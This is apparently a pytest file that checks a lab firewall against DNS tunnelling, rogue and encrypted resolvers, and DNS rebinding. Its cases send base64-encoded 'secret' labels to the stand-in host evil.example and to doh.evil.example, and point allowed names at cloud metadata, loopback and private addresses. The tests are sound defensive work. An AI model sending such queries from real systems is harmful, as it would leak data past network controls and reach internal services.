"""Attacks through resolving: tunnels, other resolvers, names that move (14-17, 24-26)."""

from __future__ import annotations

import subprocess
import time

import pytest

from tests.firewall.common import nothing_left, refused, request, with_allowed
from tests.firewall.conftest import POLICY
from tests.firewall.lab.box import Box
from tests.firewall.lab.network import (
    EVIL,
    EVIL6,
    LAN,
    METADATA,
    RESOLVER,
    RESOLVER6,
    SECOND,
    SHARED,
    Lab,
)

pytestmark = pytest.mark.real
attack = pytest.mark.attack


@pytest.mark.parametrize(
    "kind", [1, 16, 10, 65, 15, 33, 255], ids=["A", "TXT", "NULL", "HTTPS", "MX", "SRV", "ANY"]
)
@attack(14, "data in a name asked of the default resolver, any type", "does not exist; no trace upstream")
def test_dns_tunnel(box: Box, lab: Lab, kind: int) -> None:
    since = lab.now()
    answer = box.try_one("dns", name="c2VjcmV0.evil.example", server="127.0.0.1", kind=kind)
    assert answer["code"] == 3
    assert answer["answers"] == 0
    nothing_left(box, since)


@pytest.mark.parametrize("kind", [16, 65, 64, 15, 28], ids=["TXT", "HTTPS", "SVCB", "MX", "AAAA"])
@attack(14, "other record types of an allowed name", "no data, no trace upstream; in particular no ECH key")
def test_other_types(box: Box, lab: Lab, kind: int) -> None:
    since = lab.now()
    answer = box.try_one("dns", name="allowed.example", server="127.0.0.1", kind=kind)
    assert (answer["code"], answer["answers"]) == (0, 0)
    nothing_left(box, since)


@pytest.mark.parametrize("over", ["udp", "tcp"])
@pytest.mark.parametrize(
    "server", [EVIL, EVIL6, RESOLVER, RESOLVER6], ids=["evil", "evil6", "upstream", "upstream6"]
)
@attack(
    15, "another resolver, over UDP, TCP, IPv6, and the upstream itself", "answered here or refused; no trace"
)
def test_other_resolver(box: Box, lab: Lab, server: str, over: str) -> None:
    since = lab.now()
    answer = box.try_one("dns", name="c2VjcmV0.evil.example", server=server, over=over)
    assert answer.get("code") == 3 or refused(answer)
    nothing_left(box, since)


@pytest.mark.parametrize("kind", [1, 16], ids=["A", "TXT"])
@pytest.mark.parametrize("domain", ["allowed.example", "wild.example"], ids=["exact", "wildcard"])
@attack(16, "data in labels below an allowed name and a wildcard", "no trace upstream")
def test_tunnel_below(box: Box, lab: Lab, domain: str, kind: int) -> None:
    since = lab.now()
    answer = box.try_one("dns", name=f"c2VjcmV0.{domain}", server="127.0.0.1", kind=kind)
    assert answer["code"] == (3 if domain == "allowed.example" else 0)
    nothing_left(box, since)


@attack(
    17,
    "DNS over TLS, DNS over HTTPS by address, on the shared address, and over port 80",
    "denied; nothing left",
)
def test_encrypted_dns(box: Box, lab: Lab) -> None:
    since = lab.now()
    assert box.try_one("tcp", address=EVIL, port=853)["error"] == "ECONNREFUSED"
    for address in (EVIL, SHARED):
        assert not box.try_one("hello", sni="doh.evil.example", address=address).get("answered")
    text = request("doh.evil.example", "/resolve?name=c2VjcmV0.evil.example&type=TXT")
    assert box.try_one("http", address=SHARED, text=text)["data"].startswith("HTTP/1.1 403")
    nothing_left(box, since)


POINTED = {
    "metadata": METADATA[0],
    "lan": LAN,
    "gateway": "",
    "loopback": "127.0.0.1",
    "ten": "10.1.2.3",
    "cgnat": "100.64.1.1",
    "fake": "198.18.0.1",
    "zero": "0.0.0.0",
    "multicast": "224.0.0.251",
    "documentation": "203.0.113.9",
    "metadata6": METADATA[1],
    "loopback6": "::1",
    "link6": "fe80::1",
    "mapped": "::ffff:169.254.169.254",
    "6to4": "2002:a9fe:a9fe::1",
    "nat64": "64:ff9b::a9fe:a9fe",
    "teredo": "2001:0:a9fe:a9fe::1",
}


@pytest.mark.parametrize("target", POINTED)
@attack(
    24,
    "an allowed name pointed at metadata, LAN, gateway, loopback, every private range",
    "502 or reset; the refusal on record with the proxy's uid; nothing but the DNS query left",
)
def test_rebinding(box: Box, lab: Lab, target: str) -> None:
    name, address = f"{target}-{time.time_ns()}.wild.example", POINTED[target] or box.engine.gateway
    lab.set_zone({name: [address]})
    since = lab.now()
    assert refused(box.try_one("https", name=name))
    answer = box.try_one("http", address=SHARED, text=request(name))
    assert answer["data"].startswith("HTTP/1.1 502")
    nothing_left(box, since, {("udp", RESOLVER, 53, name)})
    # The kernel itself refuses TCP to some of these before any rule sees it.
    if ":" not in address and not address.startswith(("0.", "127.", "224.")):
        assert box.rows(layer="l3", verdict="deny", dst=address, uid=64971)


@attack(
    25,
    "an allowed name moves to another address during a session",
    "new connections follow it; the old stream lives",
)
def test_rotation(box: Box, lab: Lab) -> None:
    stream = subprocess.Popen(
        box.engine.argv(
            "exec",
            "--user",
            "0",
            box.name,
            "python3",
            "-IS",
            "/lab/probe.py",
            '[["follow", {"name": "rot.example", "seconds": 6}]]',
        ),
        stdout=subprocess.PIPE,
    )
    time.sleep(1)
    lab.set_zone({"rot.example": [SECOND]})
    time.sleep(1.5)
    assert box.try_one("https", name="rot.example")["dst"] == SECOND
    out = stream.communicate(timeout=20)[0].decode()
    assert '"end": "still open"' in out


@attack(26, "a process keeps the address it once resolved", "works: the address of a name never changes here")
def test_kept_address(box: Box, lab: Lab) -> None:
    before = {
        name: box.try_one("resolve", name=name)["addresses"] for name in ("allowed.example", "git.example")
    }
    lab.set_zone({"allowed.example": [SECOND]})
    assert (
        box.apply(with_allowed(POLICY, {"name": "aaa.example", "port": 22}, {"name": "later.example"})).code
        == 0
    )
    try:
        after = {name: box.try_one("resolve", name=name)["addresses"] for name in before}
        assert after == before
        assert (
            box.try_one("https", name="allowed.example", address=before["allowed.example"][0])["status"]
            == "200"
        )
        assert box.try_one("tcp", address=before["git.example"][0], port=22)["data"].startswith(
            f"LAB {SECOND} 22"
        )
    finally:
        assert box.apply(POLICY).code == 0
    assert box.try_one("resolve", name="git.example")["addresses"] == before["git.example"]
